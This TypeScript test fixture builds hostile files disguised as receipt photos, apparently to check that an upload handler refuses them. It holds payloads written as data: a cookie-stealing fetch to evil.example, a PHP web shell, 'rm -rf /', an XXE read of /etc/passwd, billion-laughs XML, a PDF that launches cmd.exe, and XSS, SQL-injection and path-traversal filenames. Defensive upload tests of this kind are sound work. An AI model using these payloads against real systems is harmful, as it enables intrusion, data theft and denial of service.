import { randomBytes } from 'node:crypto'
import { crc32, deflateSync, gzipSync } from 'node:zlib'
import { papers } from './papers.ts'

export type HostileFile = { what: string; name: string; bytes: Uint8Array }

const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex')
const joined = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)))

const SOI = hex('ffd8 ffe0 0010 4a46 4946 0001 0100 0001 0001 0000')
const PNG = hex('89504e470d0a1a0a')
const ZIP = hex('504b0304140000000800')
const HTML = '<!doctype html><html><script>alert(document.cookie)</script></html>'
const XXE =
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'

/** Files that say they are photos of receipts and are none, or none that can be read: each must be refused in words. */
export function hostilePictures(photo: Buffer): HostileFile[] {
  return [...notPictures(), ...polyglots(), ...bombs(), ...broken(photo), ...papers(), ...strangeNames()]
}

/** Something else altogether, by its first bytes. */
function notPictures(): HostileFile[] {
  const kinds: Record<string, Buffer | string> = {
    'one byte': hex('00'),
    'a megabyte of zeros': Buffer.alloc(1 << 20),
    'random bytes': randomBytes(100_000),
    'a page of HTML': HTML,
    'an SVG with a script': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'an SVG that reads a file': XXE,
    'an SVG of a billion laughs': laughs(),
    'a PHP program': '<?php system($_GET["c"]); ?>',
    'a shell script': '#!/bin/sh\nrm -rf /\n',
    JavaScript: 'fetch("https://evil.example/?"+document.cookie)',
    'a Linux program': joined(hex('7f454c46020101'), randomBytes(500)),
    'a Windows program': joined('MZ', randomBytes(500)),
    'a Mac program': joined(hex('cffaedfe'), randomBytes(500)),
    'a Java class': joined(hex('cafebabe00000034'), randomBytes(200)),
    WebAssembly: hex('0061736d01000000'),
    'a ZIP': joined(ZIP, randomBytes(300)),
    'a RAR': joined('Rar!', hex('1a0700'), randomBytes(300)),
    'a 7z': joined('7z', hex('bcaf271c'), randomBytes(300)),
    'a gzip': gzipSync(Buffer.alloc(1000)),
    'a tar': joined('receipt.jpg', Buffer.alloc(246), 'ustar', Buffer.alloc(300)),
    'an old Office file': joined(hex('d0cf11e0a1b11ae1'), randomBytes(600)),
    'a film': joined(hex('00000018'), 'ftypmp42', randomBytes(300)),
    'a song': joined('ID3', hex('0300000000'), randomBytes(300)),
    'a sound': joined('RIFF', hex('24000000'), 'WAVEfmt ', randomBytes(100)),
    'a database': joined('SQLite format 3\0', randomBytes(500)),
    PostScript: '%!PS-Adobe-3.0\nsystemdict /showpage get exec',
    'a TIFF': joined(hex('49492a0008000000'), randomBytes(100)),
    'a BMP': joined('BM', randomBytes(100)),
    'an icon': joined(hex('00000100'), randomBytes(100)),
    'a Photoshop file': joined('8BPS', hex('0001'), randomBytes(100)),
    'e-mail': 'From: x@example.com\nSubject: facture\n\nbonjour',
    JSON: '{"image":"data:image/png;base64,AAAA"}',
    'UTF-16 text': Buffer.from('\uFEFFfacture', 'utf16le'),
    'a data address': 'data:image/jpeg;base64,/9j/4AAQ',
    'an address': 'https://127.0.0.1:3000/api/keys',
    'an xz': joined(hex('fd377a585a00'), randomBytes(200)),
    'a bzip2': joined('BZh9', randomBytes(200)),
    'a zstd': joined(hex('28b52ffd'), randomBytes(200)),
    'a cabinet': joined('MSCF', randomBytes(200)),
    'a Flash film': joined('CWS', hex('0a'), randomBytes(200)),
    'a link of Windows': joined(hex('4c000000 01140200'), randomBytes(200)),
    'a font': joined('wOF2', randomBytes(200)),
    'a private key': '-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n',
    'a Matroska film': joined(hex('1a45dfa3'), randomBytes(300)),
    'a FLAC': joined('fLaC', randomBytes(300)),
    'an Ogg': joined('OggS', randomBytes(300)),
    'a JPEG XL': joined(hex('0000000c 4a584c20 0d0a870a'), randomBytes(100)),
    'a JPEG 2000': joined(hex('0000000c 6a502020 0d0a870a'), randomBytes(100)),
    'an X-ray': joined(Buffer.alloc(128), 'DICM', randomBytes(200)),
    'an AVIF of nothing': joined(hex('00000018'), 'ftypavif', hex('00000000'), 'mif1avif'),
  }
  return Object.entries(kinds).map(([what, bytes]) => ({ what, name: 'recu.jpg', bytes: Buffer.from(bytes) }))
}

/** Two kinds at once: what one reader takes for a photo, another runs. */
function polyglots(): HostileFile[] {
  return [
    { what: 'HTML behind a JPEG’s first bytes', bytes: joined(SOI, HTML) },
    { what: 'JavaScript in a JPEG’s comment', bytes: joined(hex('ffd8 fffe 0020'), '*/alert(1);/*') },
    { what: 'a ZIP behind a JPEG’s first bytes', bytes: joined(SOI, ZIP, randomBytes(200)) },
    { what: 'HTML behind a PNG’s first bytes', bytes: joined(PNG, HTML) },
    { what: 'PHP behind a GIF’s first bytes', bytes: joined('GIF89a', '<?php phpinfo();') },
    { what: 'a PDF’s first bytes before HTML', bytes: joined('%PDF-1.7\n', HTML) },
    {
      what: 'a PDF with JavaScript and no page',
      bytes: pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    },
    { what: 'a PDF that starts a program', bytes: pdf('/OpenAction << /S /Launch /F (cmd.exe) >>') },
    { what: 'a PDF behind a kilobyte of text', bytes: joined('x'.repeat(1_100), '%PDF-1.4\n%%EOF') },
    {
      what: 'a WebP that is a sound',
      bytes: joined('RIFF', hex('24000000'), 'WEBP', 'fmt ', randomBytes(50)),
    },
    { what: 'HTML in a WebP', bytes: joined('RIFF', hex('ffff0000'), 'WEBPVP8 ', HTML) },
    { what: 'HEIC’s first bytes before text', bytes: joined(hex('00000018'), 'ftypheic', HTML) },
  ].map((each) => ({ ...each, name: 'recu.jpg.html' }))
}

/** Small on the line, enormous in memory. */
function bombs(): HostileFile[] {
  const sizes: [number, number][] = [
    [60_000, 60_000],
    [100_000, 2_000],
    [2_147_483_647, 1],
    [1, 2_147_483_647],
    [0, 0],
    [4_294_967_295, 4_294_967_295],
  ]
  return [
    ...sizes.map(([width, height]) => ({
      what: `a PNG that says ${width} × ${height}`,
      bytes: png(width, height),
    })),
    { what: 'a JPEG that says 65535 × 65535', bytes: joined(SOI, jpegFrame(65_535, 65_535), hex('ffd9')) },
    { what: 'a JPEG that says 0 × 0', bytes: joined(SOI, jpegFrame(0, 0), hex('ffd9')) },
    { what: 'a WebP that says 16384 × 16384', bytes: webp(16_383, 16_383) },
    {
      what: 'a PNG whose text grows a thousandfold',
      bytes: joined(PNG, chunk('zTXt', joined('c\0\0', deflateSync(Buffer.alloc(50 << 20))))),
    },
    {
      what: 'a PDF whose page is a kilometre wide',
      bytes: pdf('/Pages 2 0 R', '/MediaBox [0 0 99999999 99999999]'),
    },
    {
      what: 'a PDF of a thousand nested arrays',
      bytes: joined('%PDF-1.4\n1 0 obj ', '['.repeat(50_000), '\n%%EOF'),
    },
  ].map((each) => ({ ...each, name: 'recu.png' }))
}

/** A real photo, spoiled. */
function broken(photo: Buffer): HostileFile[] {
  const lengths = [2, 3, 4, 10, 19, 40, 100, 200, 400]
  return [
    ...lengths.map((length) => ({
      what: `the first ${length} bytes of a JPEG`,
      bytes: photo.subarray(0, length),
    })),
    { what: 'a third of a JPEG', bytes: photo.subarray(0, Math.floor(photo.length / 3)) },
    { what: 'a JPEG whose middle is zeros', bytes: joined(photo.subarray(0, 200), Buffer.alloc(20_000)) },
    { what: 'a JPEG without its first two bytes', bytes: photo.subarray(2) },
    { what: 'a JPEG in base64', bytes: Buffer.from(photo.subarray(0, 5_000).toString('base64')) },
    { what: 'a PNG’s signature alone', bytes: PNG },
    { what: 'a PNG without pixels', bytes: joined(PNG, chunk('IEND', Buffer.alloc(0))) },
    { what: 'a PNG whose checks fail', bytes: spoiled(png(10, 10)) },
    { what: 'a PDF cut off', bytes: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Cat') },
    { what: 'a PDF that needs a password', bytes: pdf('', '', '/Encrypt << /Filter /Standard /V 4 >>') },
    { what: 'a PNG of sixteen bits that has eight', bytes: png(10, 10, { depth: 16 }) },
    { what: 'a PNG of a depth that is none', bytes: png(10, 10, { depth: 7 }) },
    { what: 'a PNG of a colour that is none', bytes: png(10, 10, { colour: 5 }) },
    { what: 'a PNG whose pixels are no deflate', bytes: png(10, 10, { pixels: randomBytes(100) }) },
    { what: 'a PNG of ten thousand parts and no pixel', bytes: joined(PNG, ...manyTexts()) },
    {
      what: 'a JPEG of ten thousand comments',
      bytes: joined(SOI, 'x'.repeat(3), hex('fffe0002'.repeat(10_000))),
    },
    {
      what: 'a JPEG whose table is longer than it',
      bytes: joined(SOI, hex('ffdb ffff 00'), randomBytes(20)),
    },
    { what: 'an empty WebP', bytes: joined('RIFF', hex('04000000'), 'WEBP') },
    { what: 'an empty HEIC', bytes: joined(hex('00000018'), 'ftypheic', hex('00000000'), 'mif1heic') },
  ].map((each) => ({ ...each, name: 'recu.jpg' }))
}

/** A name never becomes a path, whatever it says. */
function strangeNames(): HostileFile[] {
  return [
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/etc/passwd',
    'recu.jpg\0.exe',
    'CON',
    '.htaccess',
    'a'.repeat(4_000),
    'recu.jpg"; filename="x.html',
    '<img src=x onerror=alert(1)>.jpg',
    "'; drop table Expense; --.jpg",
    '\u202Egpj.exe',
    '%2e%2e%2f%2e%2e%2fx',
  ].map((name) => ({ what: `text under the name ${name.slice(0, 24)}`, name, bytes: Buffer.from('rien') }))
}

function chunk(type: string, data: Buffer): Buffer {
  const body = joined(type, data)
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  check.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, check])
}

type Pixels = { depth?: number; colour?: number; pixels?: Buffer }

function png(width: number, height: number, { depth = 8, colour = 0, pixels }: Pixels = {}): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = depth
  head[9] = colour
  return joined(
    PNG,
    chunk('IHDR', head),
    chunk('IDAT', pixels ?? deflateSync(Buffer.alloc(100))),
    chunk('IEND', Buffer.alloc(0)),
  )
}

function manyTexts(): Buffer[] {
  return Array.from({ length: 10_000 }, () => chunk('tEXt', Buffer.from('c\0x')))
}

function spoiled(bytes: Buffer): Buffer {
  return Buffer.from(bytes.map((byte, at) => (at > 29 && at < 33 ? byte ^ 0xff : byte)))
}

function jpegFrame(width: number, height: number): Buffer {
  const frame = hex('ffc0 0011 08 0000 0000 03 012200 021101 031101')
  frame.writeUInt16BE(height, 5)
  frame.writeUInt16BE(width, 7)
  return frame
}

function webp(width: number, height: number): Buffer {
  const head = Buffer.alloc(10)
  head.writeUIntLE(width, 4, 3)
  head.writeUIntLE(height, 7, 3)
  return joined('RIFF', hex('16000000'), 'WEBPVP8X', hex('0a000000'), head)
}

function pdf(catalog: string, page = '', trailer = ''): Buffer {
  return Buffer.from(
    `%PDF-1.4\n1 0 obj << /Type /Catalog ${catalog} >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 ${page} >> endobj\ntrailer << /Root 1 0 R ${trailer} >>\n%%EOF`,
  )
}

function laughs(): string {
  const entities = Array.from({ length: 12 }, (_, n) =>
    n === 0 ? '<!ENTITY l0 "ha">' : `<!ENTITY l${n} "${`&l${n - 1};`.repeat(10)}">`,
  )
  return `<?xml version="1.0"?><!DOCTYPE svg [${entities.join('')}]><svg>&l11;</svg>`
}
